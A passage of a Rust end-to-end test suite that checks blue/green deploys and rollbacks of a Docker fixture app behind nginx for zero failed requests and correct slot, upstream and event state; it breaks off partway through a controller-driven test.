//! Blue/green deploys behind a real nginx (Debian's, started on a loopback port with an
//! `include` of the upstream file the agent writes), with the fixture app in real Docker:
//! `deploy()` and `rollback()` called directly while a request loop goes through nginx at
//! 20 requests a second. Every scenario asserts zero failed requests and that the events say
//! what happened. One scenario goes through the whole chain instead: the operator's CLI
//! (`deploy --wait`, `rollback --wait`), a real controller whose production is blue/green, and
//! a real agent process allowed the test's nginx. The agent's policy is checked on a real agent
//! process: upstream files outside the allowed directories and commands not allowed are refused.

use std::path::PathBuf;
use std::time::{Duration, Instant, SystemTime};

use hostagent::jobs::blue_green::{SlotState, SLOTS_FILE};
use hostagent::jobs::events::{JobError, JobEvents, Outbox};
use hostagent::jobs::{deploy, release};
use sentinel_e2e::fake_controller::FakeController;
use sentinel_e2e::fixture::{self, served, Bundle, FixtureApp, ReleaseRepo, Variant, SECRET};
use sentinel_e2e::job_events::Sent;
use sentinel_e2e::load::{Load, LoadReport};
use sentinel_e2e::ports::{self, Port};
use sentinel_e2e::services::{nginx_binary, Nginx};
use sentinel_e2e::{eventually, Controller, Fleet, Value};
use sentinel_proto::envelope;
use sentinel_proto::time::timestamp;
use sentinel_proto::v1::{
    job_event, job_spec, BlueGreen, DeployParams, HealthCheck, JobKind, JobSpec, RefusalReason,
    RollbackParams, StepStatus,
};

/// Requests a second through nginx during every scenario.
const RATE: u32 = 20;
/// How long the old slot keeps running after a switch in these tests.
const DRAIN_MS: u32 = 1000;

/// The host's nginx as an operator sets it up once: an `upstream` that includes the file the
/// agent writes, a site proxying to it, and an include of other sites (one of which a test
/// breaks to make `nginx -t` fail).
struct Proxy {
    nginx: Nginx,
    config: PathBuf,
    port: u16,
}

impl Proxy {
    /// nginx on a fresh port, its upstream first pointing at `first_port`.
    fn start(first_port: u16) -> Self {
        let mut nginx = Nginx::new();
        let (config, [port]) = nginx.start(|n, [port]| {
            let p = n.prefix().display().to_string();
            n.write(
                "conf/sentinel/app.conf",
                &format!("server 127.0.0.1:{first_port};\n"),
            );
            n.write("conf/sites/README", "sites go here\n");
            let body = format!(
                "    upstream app {{\n        include {p}/conf/sentinel/app.conf;\n    }}\n\
                 \x20   include {p}/conf/sites/*.conf;\n\
                 \x20   server {{\n        listen 127.0.0.1:{port};\n\
                 \x20       location / {{\n            proxy_pass http://app;\n        }}\n    }}"
            );
            n.write("conf/nginx.conf", &n.main_config(&body))
        });
        Self {
            nginx,
            config,
            port,
        }
    }

    fn upstream_dir(&self) -> PathBuf {
        self.nginx.prefix().join("conf/sentinel")
    }

    fn upstream_file(&self) -> PathBuf {
        self.upstream_dir().join("app.conf")
    }

    fn upstream(&self) -> String {
        std::fs::read_to_string(self.upstream_file()).unwrap_or_default()
    }

    /// `nginx -p PREFIX -c CONFIG` followed by `tail`.
    fn command(&self, tail: &[&str]) -> Vec<String> {
        let mut argv = vec![
            nginx_binary().display().to_string(),
            "-p".to_string(),
            format!("{}/", self.nginx.prefix().display()),
            "-c".to_string(),
            self.config.display().to_string(),
        ];
        argv.extend(tail.iter().map(|s| s.to_string()));
        argv
    }

    fn reload(&self) -> Vec<String> {
        self.command(&["-s", "reload"])
    }

    fn test(&self) -> Vec<String> {
        self.command(&["-t"])
    }
}

/// One blue/green environment of the fixture app behind the proxy.
struct World {
    app: FixtureApp,
    proxy: Proxy,
    slots: [Port; 2],
    outbox: Outbox,
    keep_previous: bool,
    /// Deploy with today's `recreate` instead (for the benchmark): one project on the
    /// fixture's own port, which the upstream names.
    recreate: bool,
    /// The path `through_proxy_url` asks for.
    proxy_path: String,
}

impl World {
    fn new(tag: &str) -> Self {
        Self::with_strategy(tag, false)
    }

    fn with_strategy(tag: &str, recreate: bool) -> Self {
        assert!(
            sentinel_e2e::docker::available(),
            "these tests need a Docker daemon"
        );
        let app = FixtureApp::new(tag);
        let slots = [ports::reserve(), ports::reserve()];
        let proxy = Proxy::start(if recreate { app.port } else { slots[0].get() });
        Self {
            app,
            proxy,
            slots,
            outbox: Outbox::default(),
            keep_previous: true,
            recreate,
            proxy_path: "/health".into(),
        }
    }

    fn port(&self, slot: &str) -> u16 {
        if slot == "blue" {
            self.slots[0].get()
        } else {
            self.slots[1].get()
        }
    }

    fn blue_green(&self) -> BlueGreen {
        BlueGreen {
            blue_port: u32::from(self.port("blue")),
            green_port: u32::from(self.port("green")),
            upstream_file: self.proxy.upstream_file().display().to_string(),
            reload: self.proxy.reload(),
            test: self.proxy.test(),
            through_proxy_url: format!("http://127.0.0.1:{}{}", self.proxy.port, self.proxy_path),
            drain_ms: DRAIN_MS,
            keep_previous: self.keep_previous,
        }
    }

    fn health(&self, deadline_ms: u32) -> HealthCheck {
        HealthCheck {
            http_url: if self.recreate {
                self.app.health_url()
            } else {
                "http://127.0.0.1:{port}/health".into()
            },
            expect_status: 200,
            interval_ms: 200,
            timeout_ms: 2000,
            deadline_ms,
            container_health: true,
        }
    }

    fn params(&self, version: &str, bundle: &Bundle, deadline_ms: u32) -> DeployParams {
        DeployParams {
            not_secret: Vec::new(),
            app: "shop".into(),
            environment: "production".into(),
            commit: version.into(),
            bundle_sha256: bundle.sha256.clone(),
            bundle_size: bundle.size,
            app_dir: self.app.app_dir().display().to_string(),
            compose_file: "docker-compose.yml".into(),
            health: Some(self.health(deadline_ms)),
            keep_releases: 5,
            deploy_id: format!("deploy-{version}"),
            compose_project: self.app.project.clone(),
            migration: String::new(),
            migration_service: String::new(),
            build: true,
            blue_green: (!self.recreate).then(|| self.blue_green()),
        }
    }

    async fn deploy_with(
        &self,
        params: DeployParams,
        bundle: &Bundle,
    ) -> (Result<String, JobError>, Sent) {
        let events = JobEvents::new("job", self.outbox.clone(), 0);
        let result = deploy::deploy(&params, &bundle.path, &events).await;
        let sent = Sent::new(self.outbox.drain());
        sent.assert_no_secret();
        (result, sent)
    }

    async fn deploy(&self, version: &str, variant: Variant) -> (Result<String, JobError>, Sent) {
        let bundle = if self.recreate {
            self.app.bundle(version, variant)
        } else {
            self.app.slot_bundle(version, variant)
        };
        let deadline = if variant == Variant::Healthy {
            patience_ms()
        } else {
            4000
        };
        let params = self.params(version, &bundle, deadline);
        self.deploy_with(params, &bundle).await
    }

    async fn rollback(&self, to: &str) -> (Result<String, JobError>, Sent) {
        let params = RollbackParams {
            not_secret: Vec::new(),
            app: "shop".into(),
            environment: "production".into(),
            app_dir: self.app.app_dir().display().to_string(),
            to_commit: to.into(),
            compose_file: "docker-compose.yml".into(),
            health: Some(self.health(patience_ms())),
            deploy_id: format!("rollback-to-{to}"),
            compose_project: self.app.project.clone(),
            blue_green: Some(self.blue_green()),
        };
        let events = JobEvents::new("job", self.outbox.clone(), 0);
        let result = deploy::rollback(&params, &events).await;
        let sent = Sent::new(self.outbox.drain());
        sent.assert_no_secret();
        (result, sent)
    }

    fn slots(&self) -> SlotState {
        SlotState::load(&self.app.app_dir()).expect("slots.json")
    }

    fn running(&self, slot: &str) -> usize {
        self.app.slot_container_ids(slot, false).len()
    }

    fn existing(&self, slot: &str) -> usize {
        self.app.slot_container_ids(slot, true).len()
    }

    /// The first release, deployed without load: slot blue, live.
    async fn first(&self) {
        let (result, sent) = self.deploy("v1", Variant::Healthy).await;
        let summary = result.unwrap_or_else(|e| panic!("v1: {e}\n{}", sent.transcript()));
        if self.recreate {
            return;
        }
        assert!(
            summary.contains(&format!("slot blue (port {}) live", self.port("blue"))),
            "{summary}"
        );
        assert_eq!(sent.step("switch-back"), None);
        assert_eq!(
            sent.step("drain"),
            None,
            "nothing to drain on a first deploy"
        );
    }

    /// Runs `during` with the request loop going through nginx; returns its answers.
    async fn under_load<T>(&self, during: impl std::future::Future<Output = T>) -> (T, LoadReport) {
        let load = Load::start(self.proxy.port, "/health", RATE);
        // A few answers before anything moves, so the loop is known to work.
        tokio::time::sleep(Duration::from_millis(300)).await;
        let out = during.await;
        tokio::time::sleep(Duration::from_millis(300)).await;
        (out, load.stop())
    }
}

fn patience_ms() -> u32 {
    u32::try_from(sentinel_e2e::patience().as_millis()).unwrap_or(u32::MAX)
}

/// The names of the steps that ended, in order, with their status.
fn ended(sent: &Sent) -> Vec<(String, StepStatus)> {
    sent.steps()
        .into_iter()
        .filter(|s| s.status() != StepStatus::Started)
        .map(|s| (s.name.clone(), s.status()))
        .collect()
}

/// The loop saw `from` first, `to` last, and nothing else. (For a moment after the reload both
/// answer: nginx's old workers finish the connections they accepted, to the old slot, which
/// is why it keeps running through the drain.)
fn assert_switched(load: &LoadReport, from: &str, to: &str) {
    let bodies = load.bodies();
    assert!(
        bodies.first().map(String::as_str) == Some(from)
            && bodies.last().map(String::as_str) == Some(to)
            && bodies.iter().all(|b| b == from || b == to),
        "{}",
        load.summary()
    );
    // The last second of the loop (after the drain and the old slot's stop) is all `to`.
    let end = load.answers.last().map(|a| a.at).unwrap_or_default();
    assert!(
        load.answers
            .iter()
            .filter(|a| a.at + Duration::from_millis(250) >= end)
            .all(|a| a.result.as_deref() == Ok(to)),
        "{}",
        load.summary()
    );
}

fn assert_zero_failed(load: &LoadReport, sent: &Sent) {
    assert!(
        load.failures().is_empty() && load.answers.len() >= 10,
        "requests through nginx failed: {}\n{}",
        load.summary(),
        sent.transcript()
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_blue_green_deploy_switches_slots_with_zero_failed_requests() {
    let w = World::new("bg-deploy");
    w.first().await;
    assert!(w
        .proxy
        .upstream()
        .contains(&format!("server 127.0.0.1:{};", w.port("blue"))));

    let ((result, sent), load) = w.under_load(w.deploy("v2", Variant::Healthy)).await;
    let summary = result.unwrap_or_else(|e| panic!("v2: {e}\n{}", sent.transcript()));
    assert_zero_failed(&load, &sent);
    assert_switched(&load, "ok version v1", "ok version v2");
    let steps: Vec<String> = ended(&sent).into_iter().map(|(n, _)| n).collect();
    assert_eq!(
        steps,
        [
            "unpack",
            "build",
            "migrate",
            "up",
            "health",
            "switch",
            "health-proxy",
            "drain",
            "stop-old",
            "prune"
        ],
        "{}",
        sent.transcript()
    );
    for (name, status) in ended(&sent) {
        let expect = if name == "migrate" {
            StepStatus::Skipped
        } else {
            StepStatus::Succeeded
        };
        assert_eq!(status, expect, "{name}\n{}", sent.transcript());
    }
    let detail = |name: &str| {
        sent.steps()
            .into_iter()
            .rev()
            .find(|s| s.name == name)
            .map(|s| s.detail)
            .unwrap_or_default()
    };
    let (blue, green) = (w.port("blue"), w.port("green"));
    assert!(
        detail("health").contains(&format!("GET http://127.0.0.1:{green}/health answered 200")),
        "{}",
        detail("health")
    );
    assert!(
        detail("switch").contains(&format!(
            "upstream -> slot green (port {green}), was slot blue (port {blue})"
        )),
        "{}",
        detail("switch")
    );
    assert!(
        detail("stop-old").contains("stopped, kept for a rollback"),
        "{}",
        detail("stop-old")
    );
    assert!(
        summary.contains(&format!(
            "slot green (port {green}) live, slot blue (port {blue}) (v1) stopped"
        )),
        "{summary}"
    );

    // The host remembers it: a later job (or a restarted agent) reads the same state.
    assert!(w.app.app_dir().join(SLOTS_FILE).is_file());
    let state = w.slots();
    assert_eq!(state.live.map(|s| s.name()), Some("green"));
    assert_eq!(
        state.blue.as_ref().map(|r| (r.commit.as_str(), r.running)),
        Some(("v1", false))
    );
    assert_eq!(
        state.green.as_ref().map(|r| (r.commit.as_str(), r.running)),
        Some(("v2", true))
    );
    assert!(w
        .proxy
        .upstream()
        .contains(&format!("server 127.0.0.1:{green};")));
    assert_eq!(
        release::current_release(&w.app.app_dir()).as_deref(),
        Some("v2")
    );
    assert_eq!(
        (w.running("blue"), w.existing("blue")),
        (0, 1),
        "blue is stopped, kept"
    );
    assert_eq!(w.running("green"), 1);
    let audit = std::fs::read_to_string(w.app.app_dir().join("audit.log")).unwrap_or_default();
    assert!(
        audit
            .lines()
            .any(|l| l.contains("switch") && l.contains("upstream -> slot green")),
        "{audit}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_unhealthy_release_never_gets_the_traffic_and_the_deploy_says_why() {
    let w = World::new("bg-unhealthy");
    w.first().await;
    let before = w.proxy.upstream();

    let ((result, sent), load) = w.under_load(w.deploy("v2", Variant::Unhealthy)).await;
    let error = result.expect_err("an unhealthy release fails").to_string();
    assert_zero_failed(&load, &sent);
    assert_eq!(load.bodies(), ["ok version v1"], "{}", load.summary());
    assert_eq!(
        sent.step("health"),
        Some(StepStatus::Failed),
        "{}",
        sent.transcript()
    );
    assert_eq!(
        sent.step("switch"),
        None,
        "never switched:\n{}",
        sent.transcript()
    );
    let green = w.port("green");
    assert!(
        error.contains(&format!("http://127.0.0.1:{green}/health")),
        "{error}"
    );
    assert!(
        error.contains(&format!(
            "rolled back to v1: the upstream was never switched, slot blue (port {}) kept serving",
            w.port("blue")
        )),
        "{error}"
    );
    assert!(
        error.contains(&format!("slot green (port {green}) stopped")),
        "{error}"
    );
    assert_eq!(w.proxy.upstream(), before);
    let state = w.slots();
    assert_eq!(state.live.map(|s| s.name()), Some("blue"));
    assert_eq!(state.green.as_ref().map(|r| r.running), Some(false));
    assert_eq!(
        release::current_release(&w.app.app_dir()).as_deref(),
        Some("v1")
    );
    assert_eq!(w.running("green"), 0);
    assert_eq!(w.running("blue"), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_release_that_does_not_build_leaves_the_kept_slot_as_it_was() {
    let w = World::new("bg-build");
    w.first().await;
    let (result, sent) = w.deploy("v2", Variant::Healthy).await;
    result.unwrap_or_else(|e| panic!("v2: {e}\n{}", sent.transcript()));

    let ((result, sent), load) = w.under_load(w.deploy("v3", Variant::BuildFails)).await;
    let error = result.expect_err("a failed build fails").to_string();
    assert_zero_failed(&load, &sent);
    assert_eq!(load.bodies(), ["ok version v2"], "{}", load.summary());
    assert_eq!(sent.step("build"), Some(StepStatus::Failed));
    assert_eq!(sent.step("up"), None);
    assert!(error.contains("assets failed to compile"), "{error}");
    assert!(
        error.contains("rolled back to v2: the upstream was never switched, slot green"),
        "{error}"
    );
    // Slot blue still holds v1's stopped containers: a rollback restarts them, no rebuild.
    let state = w.slots();
    assert_eq!(
        state.blue.as_ref().map(|r| (r.commit.as_str(), r.running)),
        Some(("v1", false))
    );
    let (result, sent) = w.rollback("v1").await;
    result.unwrap_or_else(|e| panic!("rollback: {e}\n{}", sent.transcript()));
    assert_eq!(
        sent.step("start"),
        Some(StepStatus::Succeeded),
        "{}",
        sent.transcript()
    );
    assert_eq!(sent.step("build"), None);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_failed_check_through_the_proxy_switches_back_to_the_old_slot() {
    let mut w = World::new("bg-proxy-check");
    w.first().await;
    let before = w.proxy.upstream();
    // The public URL answers 404 whichever slot serves: the check after the switch fails.
    w.proxy_path = "/missing".into();
    let bundle = w.app.slot_bundle("v2", Variant::Healthy);
    // Short: the proxy check is to fail (the direct one takes well under a second).
    let params = w.params("v2", &bundle, 8000);

    let ((result, sent), load) = w.under_load(w.deploy_with(params, &bundle)).await;
    let error = result.expect_err("a failed proxy check fails").to_string();
    assert_zero_failed(&load, &sent);
    assert_eq!(
        load.bodies().last().map(String::as_str),
        Some("ok version v1"),
        "{}",
        load.summary()
    );
    assert_eq!(sent.step("switch"), Some(StepStatus::Succeeded));
    assert_eq!(sent.step("health-proxy"), Some(StepStatus::Failed));
    assert_eq!(
        sent.step("switch-back"),
        Some(StepStatus::Succeeded),
        "{}",
        sent.transcript()
    );
    assert_eq!(sent.step("drain"), None);
    let (blue, green) = (w.port("blue"), w.port("green"));
    assert!(error.contains("health through the proxy failed"), "{error}");
    assert!(error.contains("/missing"), "{error}");
    assert!(
        error.contains(&format!(
            "rolled back to v1: the upstream is back on slot blue (port {blue}), which was never stopped; slot green (port {green}) stopped"
        )),
        "{error}"
    );
    assert!(w
        .proxy
        .upstream()
        .contains(&format!("server 127.0.0.1:{blue};")));
    assert_eq!(
        w.proxy.upstream(),
        before,
        "back as it was, not left on green"
    );
    assert_eq!(w.slots().live.map(|s| s.name()), Some("blue"));
    assert_eq!(
        release::current_release(&w.app.app_dir()).as_deref(),
        Some("v1")
    );
    assert_eq!((w.running("blue"), w.running("green")), (1, 0));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_deploy_cancelled_after_the_switch_is_restored_by_switching_back() {
    let w = World::new("bg-cancel");
    w.first().await;
    let green = format!("server 127.0.0.1:{};", w.port("green"));
    let ((), load) = w
        .under_load(async {
            // Dropped (as a cancelled job's future is) once the upstream names green.
            tokio::select! {
                (result, _) = w.deploy("v2", Variant::Healthy) => {
                    panic!("the deploy ended before it was cancelled: {result:?}")
                }
                () = async {
                    while !w.proxy.upstream().contains(&green) {
                        tokio::time::sleep(Duration::from_millis(20)).await;
                    }
                } => {}
            }
            let _ = w.outbox.drain();
            // What the agent does after a cancel: roll back to the release live before.
            let (result, sent) = w.rollback("v1").await;
            let summary = result.unwrap_or_else(|e| panic!("restore: {e}\n{}", sent.transcript()));
            assert!(
                summary.contains(&format!("slot blue (port {}) live", w.port("blue"))),
                "{summary}"
            );
            assert_eq!(sent.step("build"), None, "{}", sent.transcript());
        })
        .await;
    assert!(load.failures().is_empty(), "{}", load.summary());
    assert_eq!(
        load.bodies().last().map(String::as_str),
        Some("ok version v1")
    );
    assert_eq!(w.slots().live.map(|s| s.name()), Some("blue"));
    assert!(w
        .proxy
        .upstream()
        .contains(&format!("server 127.0.0.1:{};", w.port("blue"))));
    assert_eq!(
        release::current_release(&w.app.app_dir()).as_deref(),
        Some("v1")
    );
    assert_eq!((w.running("blue"), w.running("green")), (1, 0));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_failing_nginx_config_test_restores_the_upstream_file_and_the_old_slot_serves() {
    let w = World::new("bg-nginx-t");
    w.first().await;
    let before = w.proxy.upstream();
    // Someone left a broken site on the host: `nginx -t` fails whatever the agent writes.
    w.proxy.nginx.write(
        "conf/sites/typo.conf",
        "server { listen 127.0.0.1:1; locaton / { } }\n",
    );

    let ((result, sent), load) = w.under_load(w.deploy("v2", Variant::Healthy)).await;
    let error = result
        .expect_err("a failing config test fails the deploy")
        .to_string();
    assert_zero_failed(&load, &sent);
    assert_eq!(load.bodies(), ["ok version v1"], "{}", load.summary());
    assert_eq!(sent.step("health"), Some(StepStatus::Succeeded));
    assert_eq!(
        sent.step("switch"),
        Some(StepStatus::Failed),
        "{}",
        sent.transcript()
    );
    assert_eq!(sent.step("health-proxy"), None);
    assert!(error.contains("the proxy's config test failed"), "{error}");
    assert!(
        error.contains("locaton"),
        "nginx's own words are in the error: {error}"
    );
    assert!(
        error.contains(&format!("{} restored", w.proxy.upstream_file().display())),
        "{error}"
    );
    assert!(
        error.contains(&format!(
            "rolled back to v1: the upstream stayed on slot blue (port {}), which was never stopped",
            w.port("blue")
        )),
        "{error}"
    );
    assert_eq!(w.proxy.upstream(), before, "the upstream file is as it was");
    assert_eq!(w.slots().live.map(|s| s.name()), Some("blue"));
    assert_eq!(
        release::current_release(&w.app.app_dir()).as_deref(),
        Some("v1")
    );
    assert_eq!(w.running("green"), 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rollback_restarts_the_kept_slot_and_switches_back_without_a_rebuild() {
    let w = World::new("bg-rollback");
    w.first().await;
    let (result, sent) = w.deploy("v2", Variant::Healthy).await;
    result.unwrap_or_else(|e| panic!("v2: {e}\n{}", sent.transcript()));
    assert_eq!(w.running("blue"), 0);

    let t = Instant::now();
    let ((result, sent), load) = w.under_load(w.rollback("v1")).await;
    let took = t.elapsed();
    let summary = result.unwrap_or_else(|e| panic!("rollback: {e}\n{}", sent.transcript()));
    assert_zero_failed(&load, &sent);
    assert_switched(&load, "ok version v2", "ok version v1");
    let steps: Vec<String> = ended(&sent).into_iter().map(|(n, _)| n).collect();
    assert_eq!(
        steps,
        [
            "start",
            "health",
            "switch",
            "health-proxy",
            "drain",
            "stop-old"
        ],
        "no build, no up:\n{}",
        sent.transcript()
    );
    assert!(
        sent.transcript().contains("v1 is kept in slot blue"),
        "{}",
        sent.transcript()
    );
    assert!(
        summary.contains("rolled back shop/production from v2 to v1"),
        "{summary}"
    );
    let state = w.slots();
    assert_eq!(state.live.map(|s| s.name()), Some("blue"));
    assert_eq!(
        state.green.as_ref().map(|r| (r.commit.as_str(), r.running)),
        Some(("v2", false))
    );
    assert_eq!(
        release::current_release(&w.app.app_dir()).as_deref(),
        Some("v1")
    );
    assert_eq!((w.running("blue"), w.running("green")), (1, 0));
    eprintln!("rollback by switch took {took:?} ({})", load.summary());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_kept_containers_a_rollback_starts_the_previous_release_in_the_idle_slot() {
    let mut w = World::new("bg-rebuild");
    w.keep_previous = false;
    w.first().await;
    let (result, sent) = w.deploy("v2", Variant::Healthy).await;
    result.unwrap_or_else(|e| panic!("v2: {e}\n{}", sent.transcript()));
    assert_eq!(
        w.existing("blue"),
        0,
        "keep_previous = false removes the old slot"
    );
    assert_eq!(sent.step("remove-old"), Some(StepStatus::Succeeded));

    let ((result, sent), load) = w.under_load(w.rollback("v1")).await;
    result.unwrap_or_else(|e| panic!("rollback: {e}\n{}", sent.transcript()));
    assert_zero_failed(&load, &sent);
    assert_eq!(sent.step("build"), Some(StepStatus::Succeeded));
    assert_eq!(sent.step("up"), Some(StepStatus::Succeeded));
    assert_eq!(sent.step("start"), None);
    assert!(sent
        .transcript()
        .contains("no slot holds v1; starting it in slot blue"));
    assert_eq!(w.slots().live.map(|s| s.name()), Some("blue"));
    assert_eq!(
        load.bodies().last().map(String::as_str),
        Some("ok version v1")
    );
}

// ---------------------------------------------------------------------------------------------
// Through the controller: the operator's CLI, a real controller and a real agent process.

/// On drop, removes the Compose projects the agent made for app `name` (staging's,
/// production's two slots), which `FixtureApp`'s own clean-up does not reach.
struct Projects(String);

impl Drop for Projects {
    fn drop(&mut self) {
        fixture::remove_environment_projects(&self.0);
    }
}

/// `GetJob` of `job_id`: its step events as (name, status word, detail), in order.
fn job_steps(controller: &Controller, job_id: &str) -> Vec<(String, String, String)> {
    let job = controller.get_job(job_id).expect("GetJob");
    job["events"]
        .as_array()
        .cloned()
        .unwrap_or_default()
        .iter()
        .filter_map(|e| {
            let step = e.get("step")?;
            Some((
                step["name"].as_str().unwrap_or_default().to_string(),
                step["status"].as_str().unwrap_or_default().to_string(),
                step["detail"].as_str().unwrap_or_default().to_string(),
            ))
        })
        .collect()
}

/// The names of the job's steps that ended, in order, and whether each succeeded.
fn job_ended(steps: &[(String, String, String)]) -> Vec<(String, String)> {
    steps
        .iter()
        .filter(|(_, status, _)| status != "STEP_STATUS_STARTED")
        .map(|(name, status, _)| (name.clone(), status.clone()))
        .collect()
}

/// The deploy record `id` (GetDeploy), parsed.
fn get_deploy(controller: &Controller, id: &str) -> Value {
    controller
        .grpcurl(
            Some(&format!("{{\"deploy_id\":\"{id}\"}}")),
            "sentinel.v1.FleetService/GetDeploy",
        )
        .json()
        .expect("GetDeploy")
}

/// The id a `sentinel deploy|rollback … --wait` printed first ("deploy ID of …").
fn started_id(out: &str) -> String {
    out.lines()
        .find_map(|l| {
            let mut words = l.split_whitespace();
            match (words.next(), words.next(), words.next()) {
                (Some("deploy" | "rollback"), Some(id), Some("of")) => Some(id.to_string()),
                _ => None,
            }
        })
        .unwrap_or_else(|| panic!("no deploy id in: {out}"))
}

#[test]
fn through_the_controller_a_blue_green_production_deploys_and_rolls_back_with_zero_failed_requests()
{
    assert!(
        sentinel_e2e::docker::available(),
        "this test needs a Docker daemon"
    );
    let fleet = Fleet::new(&["prod-alfa"]);
    let app = FixtureApp::new("bg-pipe");
    let name = app.project.clone();
    let _projects = Projects(name.clone());
    let slots = [ports::reserve(), ports::reserve()];
    let (blue, green) = (slots[0].get(), slots[1].get());
    let staging_port = ports::reserve();
    let proxy = Proxy::start(blue);
    // The release repo's compose file publishes `${SENTINEL_PORT}`: the agent sets it per
    // slot on production; staging (recreate) gets it from its secrets file.
    let repo = ReleaseRepo::new(fleet.path("repo"));
    let publish_on_slot = |dir: &std::path::Path| {
        let compose = dir.join("docker-compose.yml");
        let text = std::fs::read_to_string(&compose).expect("compose file");
        assert!(text.contains("${PORT}"), "{text}");
        std::fs::write(&compose, text.replace("${PORT}", "${SENTINEL_PORT}")).expect("write");
    };
    let v1 = repo.commit(&app, "v1", Variant::Healthy, publish_on_slot);
    let v2 = repo.commit(&app, "v2", Variant::Healthy, publish_on_slot);
    std::fs::write(
        fleet.path("staging.env"),
        format!(
            "DB_PASSWORD={SECRET}\nSENTINEL_PORT={}\n",
            staging_port.get()
        ),
    )
    .expect("staging secrets");
    std::fs::write(
        fleet.path("production.env"),
        format!("DB_PASSWORD={SECRET}\n"),
    )
    .expect("production secrets");

    let c = fleet.certs.display();
    let toml_list = |argv: &[String]| format!("{argv:?}");
    let staging_dir = fleet.path("apps/staging");
    let production_dir = fleet.path("apps/production");
    let extra = format!(
        "[signing]\nkey = \"{c}/signing.key\"\n\n\
         [[apps]]\nname = \"{name}\"\nrepo = \"{repo}\"\n\
         [apps.staging]\nhost = \"prod-alfa\"\napp_dir = \"{staging}\"\nsecrets_file = \"{staging_env}\"\n\
         not_secret = [\"SENTINEL_PORT\"]\nbase_url = \"http://127.0.0.1:{sp}\"\n\
         [apps.staging.health]\nurl = \"http://127.0.0.1:{sp}/health\"\ndeadline = \"{patience}ms\"\ncontainer_health = true\n\
         [apps.production]\nhost = \"prod-alfa\"\napp_dir = \"{production}\"\nsecrets_file = \"{production_env}\"\n\
         base_url = \"http://127.0.0.1:{np}\"\nstrategy = \"blue_green\"\n\
         [apps.production.health]\nurl = \"http://127.0.0.1:{{port}}/health\"\ndeadline = \"{patience}ms\"\ncontainer_health = true\n\
         [apps.production.blue_green]\nports = [{blue}, {green}]\nupstream_file = \"{upstream}\"\n\
         reload = {reload}\ntest = {test}\nthrough_proxy_url = \"http://127.0.0.1:{np}/health\"\n\
         drain = \"{DRAIN_MS}ms\"\nkeep_previous = true\n\
         [[apps.e2e]]\nname = \"home page\"\npath = \"/\"\nexpect_body = \"fixture\"\nsmoke = true\n",
        repo = repo.dir.display(),
        staging = staging_dir.display(),
        staging_env = fleet.path("staging.env").display(),
        sp = staging_port.get(),
        production = production_dir.display(),
        production_env = fleet.path("production.env").display(),
        np = proxy.port,
        patience = patience_ms(),
        upstream = proxy.upstream_file().display(),
        reload = toml_list(&proxy.reload()),
        test = toml_list(&proxy.test()),
    );
    let controller = fleet.start_controller(&extra);
    let jobs = format!(
        "[collectors]\ndocker = false\n[jobs]\nstate_dir = \"{state}\"\ntrusted_keys = [\"{c}/signing.pub\"]\n\
         allowed_kinds = [\"deploy\", \"rollback\"]\napp_dirs = [\"{apps}\"]\n\
         [jobs.blue_green]\nupstream_dirs = [\"{dir}\"]\ncommands = [{reload}, {test}]\n",
        state = fleet.path("state").display(),
        apps = fleet.path("apps").display(),
        dir = proxy.upstream_dir().display(),
        reload = toml_list(&proxy.reload()),
        test = toml_list(&proxy.test()),
    );
    let _agent = fleet.start_agent("prod-alfa", "prod-alfa", &controller.addr, &jobs);
    controller.wait_online("prod-alfa");

    let production_job = |d: &Value, name: &str| -> String {
        d["steps"]
            .as_array()
            .cloned()
            .unwrap_or_default()
            .iter()
            .find(|st| st["environment"] == "production" && st["name"] == name)
            .and_then(|st| st["jobId"].as_str().map(str::to_string))
            .unwrap_or_else(|| panic!("no production {name} step with a job: {d}"))
    };

    // 1. v1: the first release, slot blue.
    let (code, out) = controller.cli(&["deploy", &name, "--commit", &v1, "--wait"]);
    assert_eq!(code, Some(0), "{out}");
    assert!(proxy
        .upstream()
        .contains(&format!("server 127.0.0.1:{blue};")));
    assert_eq!(served(proxy.port).lines().last(), Some("ok version v1"));

    // 2. v2 under load: green starts beside blue, the proxy switches, nothing fails.
    let load = Load::start(proxy.port, "/health", RATE);
    std::thread::sleep(Duration::from_millis(300));
    let (code, out) = controller.cli(&["deploy", &name, "--commit", &v2, "--wait"]);
    std::thread::sleep(Duration::from_millis(300));
    let load = load.stop();
    assert_eq!(code, Some(0), "{out}");
    assert!(
        load.failures().is_empty() && load.answers.len() >= 10,
        "requests through nginx failed during v2: {}\n{out}",
        load.summary()
    );
    assert_switched(&load, "ok version v1", "ok version v2");
    assert!(
        proxy
            .upstream()
            .contains(&format!("server 127.0.0.1:{green};")),
        "{}",
        proxy.upstream()
    );
    let id = started_id(&out);
    let d = get_deploy(&controller, &id);
    assert_eq!(d["state"], "DEPLOYMENT_STATE_SUCCEEDED", "{d}");
    assert_eq!(d["commit"], v2.as_str(), "{d}");
    let job = production_job(&d, "deploy");
    let steps = job_steps(&controller, &job);
    let ended: Vec<String> = job_ended(&steps).into_iter().map(|(n, _)| n).collect();
    assert_eq!(
        ended,
        [
            "unpack",
            "build",
            "migrate",
            "up",
            "health",
            "switch",
            "health-proxy",
            "drain",
            "stop-old",
            "prune"
        ],
        "{steps:?}"
    );
    let detail = |steps: &[(String, String, String)], name: &str| {
        steps
            .iter()
            .rev()
            .find(|(n, _, _)| n == name)
            .map(|(_, _, d)| d.clone())
            .unwrap_or_default()
    };
    assert!(
        detail(&steps, "switch").contains(&format!(
            "upstream -> slot green (port {green}), was slot blue (port {blue})"
        )),
        "{steps:?}"
    );
    assert!(
        detail(&steps, "stop-old").contains("stopped, kept for a rollback"),
        "{steps:?}"
    );
    // The controller's record of the production deploy step says what the agent said.
    let production_detail = d["steps"]
        .as_array()
        .cloned()
        .unwrap_or_default()
        .iter()
        .find(|st| st["environment"] == "production" && st["name"] == "deploy")
        .map(|st| st["detail"].as_str().unwrap_or_default().to_string())
        .unwrap_or_default();
    assert!(
        production_detail.contains(&format!(
            "slot green (port {green}) live, slot blue (port {blue}) ({v1}) stopped"
        )),
        "{d}"
    );
